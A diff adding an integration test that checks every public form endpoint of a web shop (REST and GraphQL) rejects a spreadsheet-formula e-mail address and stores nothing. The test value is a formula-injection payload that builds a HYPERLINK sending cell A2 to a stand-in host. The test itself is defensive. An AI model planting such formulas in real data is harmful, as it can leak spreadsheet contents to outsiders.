@@ -92,6 +92,38 @@ describe('nothing a visitor sends is lost: every public form at its limits', () 
     expect(await t.dataSource.query(`SELECT email FROM newsletter_subscriber`)).toEqual([{ email: LONGEST_EMAIL }]);
   });
 
+  it('one e-mail rule at every public door: a spreadsheet formula as the address is refused, naming the field, and nothing is stored', async () => {
+    const FORMULA = '=HYPERLINK("https://x/?"&A2,"y")&"@a.b"';
+    const counts = async () =>
+      (
+        await t.dataSource.query(
+          `SELECT (SELECT count(*) FROM commission_request)::int AS commissions, (SELECT count(*) FROM customer_order)::int AS orders,
+                  (SELECT count(*) FROM booking)::int AS bookings, (SELECT count(*) FROM newsletter_subscriber)::int AS subscribers`,
+        )
+      )[0] as Record<string, number>;
+    const before = await counts();
+    const graphqlRefusal = (res: { body: { errors?: { message: string; extensions: { code: string } }[] } }) => {
+      expect(res.body.errors?.[0]).toMatchObject({ message: expect.stringContaining('email must be a valid e-mail address'), extensions: { code: 'BAD_USER_INPUT' } });
+    };
+
+    const rest = t.http().post('/api/v1/commissions/send-commission');
+    for (const [key, value] of Object.entries({ ...commission(), email: FORMULA })) rest.field(key, value);
+    expect((await rest.expect(400)).body.message).toContain('email must be a valid e-mail address');
+    graphqlRefusal(await gql(t, 'mutation ($input: CommissionRequestInput!) { requestCommission(input: $input) { id } }', { input: { ...commission(), email: FORMULA } }));
+    graphqlRefusal(
+      await gql(t, 'mutation ($input: CheckoutInput!) { checkout(input: $input) { orderNumber } }', {
+        input: { name: 'Amani', email: FORMULA, phone: '+250 788 555 000', country: 'Rwanda', shippingAddress: 'KN 5 Rd, Kigali', lines: [] },
+      }),
+    );
+    graphqlRefusal(await gql(t, 'mutation ($input: BookingInput) { bookStudioVisit(input: $input) { paymentLinkUrl } }', { input: { name: 'Amani', email: FORMULA } }));
+    const legacyBooking = await t.http().post('/api/v1/payments/sawatour-invoice').send({ customer: { name: 'Amani', email: FORMULA } }).expect(400);
+    expect(legacyBooking.body.message).toContain('customer.email must be a valid e-mail address');
+    await t.http().post('/api/v1/mail/subscribe').send({ email: FORMULA }).expect(400);
+    graphqlRefusal(await gql(t, 'mutation ($email: String!) { subscribeToNewsletter(email: $email) { message } }', { email: FORMULA }));
+
+    expect(await counts()).toEqual(before);
+  });
+
   it('a checkout with every field at its limit', async () => {
     const token = await t.token();
     const artistId = await createArtist(t, maximal(FIELD_LIMITS.artist.name));
